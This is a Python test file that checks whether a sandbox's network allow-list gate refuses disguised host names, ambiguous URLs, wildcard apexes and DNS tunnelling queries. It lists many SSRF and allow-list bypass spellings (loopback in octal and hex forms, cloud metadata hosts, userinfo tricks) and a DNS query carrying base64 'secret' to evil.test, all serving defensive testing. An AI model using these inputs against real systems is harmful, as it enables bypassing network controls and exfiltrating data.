"""No spelling of a host is taken for another one."""

import pytest

from tests.promises.sandbox_probe import SandboxProbe

DISGUISES = {
    "suffix": "good.test.evil.test",
    "prefix": "evilgood.test",
    "no dot": "xgood.test",
    "subdomain of an exact rule": "sub.good.test",
    "user part": "good.test@evil.test",
    "fragment": "good.test#evil.test",
    "percent NUL": "good.test%00.evil.test",
    "NUL": "good.test\\x00.evil.test",
    "tab": "good.test\\t.evil.test",
    "vertical tab": "good.test\\x0bevil.test",
    "backslash": "good.test\\\\.evil.test",
    "slash": "good.test/evil.test",
    "comma": "good.test,evil.test",
    "semicolon": "good.test;evil.test",
    "cyrillic": "g\\xd0\\xbeod.test",
    "fullwidth dot": "good\\xef\\xbc\\x8etest",
    "ideographic dot": "good\\xe3\\x80\\x82test",
    "punycode look-alike": "xn--god-7cd.test",
    "two trailing dots": "good.test..",
    "empty label": "good..test",
    "leading dot": ".good.test",
    "wildcard itself": "*.test",
    "over 255 bytes": "a." * 130 + "good.test",
    "a label of 64": "a" * 64 + ".good.test",
    "short quad": "127.1",
    "decimal": "2130706433",
    "hex": "0x7f.1",
    "hex whole": "0x7f000001",
    "octal": "017700000001",
    "octal quad": "0177.0.0.1",
    "quad": "127.0.0.1",
    "zero": "0",
    "loopback 6": "[::1]",
    "mapped": "[::ffff:127.0.0.1]",
    "nat64": "[64:ff9b::7f00:1]",
    "6to4": "[2002:7f00:1::]",
    "zone": "[fe80::1%25eth0]",
    "localhost": "localhost",
    "below localhost": "a.localhost",
    "metadata": "metadata.google.internal",
    "docker's host": "host.docker.internal",
    "resolver": "dns.google",
}


@pytest.mark.parametrize("name", DISGUISES.values(), ids=DISGUISES.keys())
def test_a_connect_to_a_disguised_name_is_refused(
    sandbox: SandboxProbe, name: str
) -> None:
    """Promise: only the very name that a rule holds passes, in one spelling.

    Why: parsers disagree on what a host is, and each disagreement is a way out.
    """
    sandbox.allow(sandbox.good())

    done = sandbox.run(f"""
        wire, status = tunnel(b"{name}:" + str(PORT).encode())
        say(status)
    """)

    assert " 403 " in done.out or " 400 " in done.out, done.out


@pytest.mark.parametrize(
    "url",
    [
        "http://good.test:8080@evil.test:PORT/",
        "http://evil.test:PORT\\\\@good.test/",
        "http://good.test:PORT@evil.test/",
        "http://evil.test:PORT#good.test/",
        "http://evil.test:PORT/",
        "https://good.test:PORT/",
        "ftp://good.test:PORT/",
    ],
)
def test_a_url_leads_where_every_parser_says_or_nowhere(
    sandbox: SandboxProbe, url: str
) -> None:
    """Promise: a plain request whose URL has two readings reaches neither.

    Why: `http://allowed:8080@evil/` passed two of the peers.
    """
    sandbox.allow(sandbox.good())

    done = sandbox.run(f"""
        url = "{url}".replace("PORT", str(PORT))
        head = f"GET {{url}} HTTP/1.1\\r\\nHost: good.test:{{PORT}}\\r\\n\\r\\n"
        say(raw(head.encode()))
    """)

    assert done.out.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), done.out


def test_a_wildcard_leaves_out_its_apex(sandbox: SandboxProbe) -> None:
    """Promise: `*.good.test` allows what is below good.test, not good.test.

    Why: an apex is often somebody else's, and RFC 6125 reads it so.
    """
    sandbox.allow(sandbox.good(host="*.good.test"))

    done = sandbox.run("say(tunnel(f'good.test:{PORT}')[1])")

    assert " 403 " in done.out


@pytest.mark.parametrize("kind", [16, 10, 99, 12, 255, 252])
def test_names_are_no_way_to_carry_data_out(sandbox: SandboxProbe, kind: int) -> None:
    """Promise: nothing but A is answered, from the gate itself, asking nobody.

    Why: TXT, NULL, SPF, PTR, ANY and AXFR are what DNS tunnels are made of.
    """
    done = sandbox.run(f"""
        wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        wire.settimeout(4)
        name = b"".join(bytes([len(p)]) + p for p in (b"c2VjcmV0", b"evil", b"test"))
        query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\\0"
        wire.sendto(query + struct.pack(">HH", {kind}, 1), ("127.0.0.1", 53))
        answer = wire.recv(4096)
        say("answers", struct.unpack(">H", answer[6:8])[0])
    """)

    assert "answers 0" in done.out, done.out
